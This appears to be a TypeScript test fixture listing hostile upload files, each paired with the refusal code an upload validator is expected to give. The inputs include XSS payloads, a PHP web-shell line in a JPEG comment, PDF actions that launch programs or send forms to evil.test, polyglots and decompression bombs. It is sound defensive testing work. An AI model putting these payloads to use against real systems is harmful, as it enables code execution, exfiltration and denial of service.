import { deflateSync } from 'node:zlib';
import { jpeg, pdf, png, pngChunk, zip } from './documentFiles.fixture.ts';

const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTI', 'VIRUS-TEST-FILE!$H+H*'].join('');
const flate = (text: string | Buffer) => ({ data: deflateSync(text) });

const manyTexts = pngChunk(
  'zTXt',
  Buffer.concat([Buffer.from('Note\0\0'), deflateSync(Buffer.alloc(900_000), { level: 9 })]),
);
/** The length of the first segment is the start of a comment of a script, `/*`. */
const scriptImage = (): Buffer => {
  const padding = Buffer.alloc(0x2f_2a - 2);
  return Buffer.concat([
    Buffer.from('\xff\xd8\xff\xe0/*', 'latin1'),
    padding,
    jpeg({ comment: '*/=alert(1);/*' }).subarray(2),
  ]);
};

/** A file that must not be stored, and the reason that the player sees. */
export type HostileFile = readonly [name: string, make: () => Buffer, refusal: string];

/** Malicious files, for the inspection alone and through the whole route of an upload. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  // zero and wrong types
  ['an empty file', () => Buffer.alloc(0), 'EMPTY'],
  ['a text', () => Buffer.from('passport.png'), 'WRONG_TYPE'],
  ['a web page', () => Buffer.from('<html><script>alert(1)</script></html>'), 'WRONG_TYPE'],
  ['a vector image with a script', () => Buffer.from('<svg onload="alert(1)"/>'), 'WRONG_TYPE'],
  ['a GIF image', () => Buffer.from('GIF89a\x01\0\x01\0', 'latin1'), 'WRONG_TYPE'],
  ['a program named like a picture', () => Buffer.from('MZ\x90\0passport.jpg', 'latin1'), 'WRONG_TYPE'],
  ['an archive', () => zip(), 'WRONG_TYPE'],
  ['a WebP image', () => Buffer.from('RIFF\x1a\0\0\0WEBPVP8L', 'latin1'), 'WRONG_TYPE'],
  ['a HEIC image', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0', 'latin1'), 'WRONG_TYPE'],
  ['a PostScript program', () => Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) run'), 'WRONG_TYPE'],
  [
    'a document of an office program',
    () => Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', 'latin1'),
    'WRONG_TYPE',
  ],
  [
    'a PDF header that is not at the start',
    () => Buffer.concat([Buffer.from('GIF89a'), pdf()]),
    'WRONG_TYPE',
  ],
  // damaged
  [
    'a PNG image with a wrong checksum',
    () => {
      const bytes = png();
      bytes[20] = 9;
      return bytes;
    },
    'DAMAGED',
  ],
  ['a PNG image without its end', () => png().subarray(0, -12), 'CUT_OFF'],
  ['a PNG image with fewer pixels than announced', () => png({ rows: Buffer.alloc(10) }), 'CUT_OFF'],
  ['a JPEG image without its end', () => jpeg({ end: Buffer.alloc(0) }), 'CUT_OFF'],
  ['a JPEG start marker only', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'CUT_OFF'],
  ['a PDF document without its end', () => pdf().subarray(0, -30), 'CUT_OFF'],
  [
    'a PDF document whose table is elsewhere',
    () =>
      Buffer.from(
        pdf()
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n5'),
        'latin1',
      ),
    'DAMAGED',
  ],
  // bombs
  [
    'a PNG image with more pixels than announced',
    () => png({ rows: Buffer.alloc(20_000_000) }),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PNG image of 60,000 × 60,000 pixels',
    () => png({ width: 60_000, height: 60_000, rows: Buffer.alloc(1) }),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PNG image with a text of 2 MB',
    () =>
      png({
        extra: [
          pngChunk('zTXt', Buffer.concat([Buffer.from('Note\0\0'), deflateSync(Buffer.alloc(2_000_000))])),
        ],
      }),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PNG image with 100 texts of 900 kB',
    () => png({ extra: Array.from({ length: 100 }, () => manyTexts) }),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PNG image with an animation that is not its pixels',
    () => png({ extra: [pngChunk('acTL', Buffer.from([0, 1, 0, 0, 0, 0, 0, 0]))] }),
    'UNSUPPORTED',
  ],
  ['a JPEG image of 65,000 × 65,000 pixels', () => jpeg({ width: 65_000, height: 65_000 }), 'TOO_BIG_INSIDE'],
  ['a JPEG image with 1,000 scans', () => jpeg({ frame: 0xc2, scans: 1_000 }), 'TOO_BIG_INSIDE'],
  ['a PDF stream of 65 MB', () => pdf([], [flate(Buffer.alloc(65_000_000))]), 'TOO_BIG_INSIDE'],
  [
    'a PDF stream that is compressed twice',
    () =>
      pdf(
        [],
        [
          {
            dictionary: '/Filter [/FlateDecode /FlateDecode]',
            data: deflateSync(deflateSync(Buffer.alloc(65_000_000))),
          },
        ],
      ),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PDF stream with a long chain of filters',
    () => pdf([], [{ dictionary: '/Filter [/Fl /Fl /Fl /Fl]', data: Buffer.alloc(9) }]),
    'TOO_BIG_INSIDE',
  ],
  [
    'a PDF image of 4,000 megapixels',
    () =>
      pdf([], [{ dictionary: '/Width 64000 /Height 64000 /Filter /CCITTFaxDecode', data: Buffer.alloc(9) }]),
    'TOO_BIG_INSIDE',
  ],
  // polyglots
  ['a PNG image with an archive behind it', () => Buffer.concat([png(), zip()]), 'TRAILING_DATA'],
  [
    'a PNG image with data behind its pixels',
    () => png({ behindRows: Buffer.from('<script>') }),
    'TRAILING_DATA',
  ],
  ['a PNG image with an archive in a chunk', () => png({ extra: [pngChunk('tEXt', zip())] }), 'MIXED_TYPES'],
  [
    'a PNG image with the locator of an archive of more than 4 GB',
    () => png({ extra: [pngChunk('tEXt', Buffer.from('PK\x06\x07\0\0\0\0', 'latin1'))] }),
    'MIXED_TYPES',
  ],
  [
    'a PNG image with an entry of an archive that has no directory',
    () => png({ extra: [pngChunk('tEXt', zip().subarray(0, 42))] }),
    'MIXED_TYPES',
  ],
  ['a JPEG image that is a script', scriptImage, 'MIXED_TYPES'],
  [
    'a JPEG image with an event handler in its comment',
    () => jpeg({ comment: '<img src=x onerror=alert(1)>' }),
    'MIXED_TYPES',
  ],
  ['a PDF document that is a web page', () => pdf(['(<html><body onload=alert(1)>)']), 'MIXED_TYPES'],
  ['a JPEG image with a PDF document behind it', () => Buffer.concat([jpeg(), pdf()]), 'TRAILING_DATA'],
  [
    'a JPEG image with a script in its comment',
    () => jpeg({ comment: '<ScRipt>alert(1)</script>' }),
    'MIXED_TYPES',
  ],
  [
    'a JPEG image with server code in its comment',
    () => jpeg({ comment: '<?php system($_GET[0]);' }),
    'MIXED_TYPES',
  ],
  ['a PDF document with an archive behind it', () => Buffer.concat([pdf(), zip()]), 'TRAILING_DATA'],
  ['a PDF document with an archive in a stream', () => pdf([], [flate(zip())]), 'MIXED_TYPES'],
  [
    'a PDF stream with data behind its compressed data',
    () => pdf([], [{ dictionary: '/Filter /FlateDecode', data: Buffer.concat([deflateSync('x'), zip()]) }]),
    'TRAILING_DATA',
  ],
  // active content and malware
  ['a PDF document with a script', () => pdf(['<< /S /JavaScript /JS (app.alert(1)) >>']), 'ACTIVE_CONTENT'],
  [
    'a PDF document with a hidden name of a script',
    () => pdf(['<< /S /J#61vaScript /J#53 (app.alert(1)) >>']),
    'ACTIVE_CONTENT',
  ],
  [
    'a PDF document with a script in an object stream',
    () =>
      pdf(
        [],
        [
          {
            dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
            data: deflateSync('9 0 << /S /JavaScript /JS (x) >>'),
          },
        ],
      ),
    'ACTIVE_CONTENT',
  ],
  [
    'a PDF document with an object inside of an unfiltered stream',
    () => pdf([], [{ dictionary: '', data: Buffer.from('9 0 obj << /S /Launch /F (cmd) >> endobj') }]),
    'ACTIVE_CONTENT',
  ],
  [
    'a PDF document with an object inside of a stored stream',
    () =>
      pdf(
        [],
        [
          {
            dictionary: '/Filter /FlateDecode',
            data: deflateSync('9 0 obj << /S /JavaScript >> endobj', { level: 0 }),
          },
        ],
      ),
    'ACTIVE_CONTENT',
  ],
  ['a PDF document that starts a program', () => pdf(['<< /S /Launch /F (calc.exe) >>']), 'ACTIVE_CONTENT'],
  [
    'a PDF document that sends a form',
    () => pdf(['<< /S /SubmitForm /F (https://evil.test) >>']),
    'ACTIVE_CONTENT',
  ],
  [
    'a PDF document that opens a remote file',
    () => pdf(['<< /S /GoToR /F (//evil.test/share) >>']),
    'ACTIVE_CONTENT',
  ],
  ['a PDF document with an attachment', () => pdf(['<< /Type /EmbeddedFile >>']), 'EMBEDDED_FILE'],
  ['an encrypted PDF document', () => pdf(['<< /Encrypt 9 0 R >>']), 'ENCRYPTED'],
  [
    'a PDF stream with an unknown filter',
    () => pdf([], [{ dictionary: '/Filter /JBIG2Decode', data: Buffer.alloc(9) }]),
    'UNSUPPORTED',
  ],
  ['the test virus in a comment', () => jpeg({ comment: EICAR }), 'MALWARE'],
  ['the test virus in a compressed stream', () => pdf([], [flate(EICAR)]), 'MALWARE'],
  ['a program in a compressed stream', () => pdf([], [flate(Buffer.from('MZ\x90\0', 'latin1'))]), 'MALWARE'],
];
